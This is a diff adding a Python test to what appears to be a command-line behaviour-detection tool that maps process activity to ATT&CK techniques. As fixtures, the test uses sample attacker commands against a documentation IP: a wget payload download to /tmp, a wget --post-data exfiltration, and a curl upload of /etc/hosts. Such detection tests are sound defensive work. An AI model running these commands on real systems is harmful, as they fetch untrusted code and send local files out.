@@ -455,3 +455,15 @@ def test_cli_rejects_a_bad_duration_and_severity(clickhouse_dir: Path, capsys: p
     assert "--since" in capsys.readouterr().err
     assert procsight("top", *direct, "--severity", "urgent") == 1
     assert "--severity" in capsys.readouterr().err
+
+
+def test_a_downloader_sending_data_is_not_shown_as_a_download() -> None:
+    fetch = Pattern(record_id="1:1", workload="w", host="h", command_line="wget http://203.0.113.9/kit -O /tmp/k",
+                    score=0.5)
+    post = Pattern(record_id="1:2", workload="w", host="h", command_line="wget --post-data=x http://203.0.113.9",
+                   score=0.5)
+    upload = Pattern(record_id="1:3", workload="w", host="h", command_line="curl -d @/etc/hosts http://203.0.113.9",
+                     score=0.5)
+    ranked = BehaviourSearch().rank("ingress tool transfer", [post, upload, fetch], 10)
+    assert ranked[0].pattern.record_id == "1:1", ranked
+    assert all("T1105" not in m.techniques for m in ranked[1:]), ranked
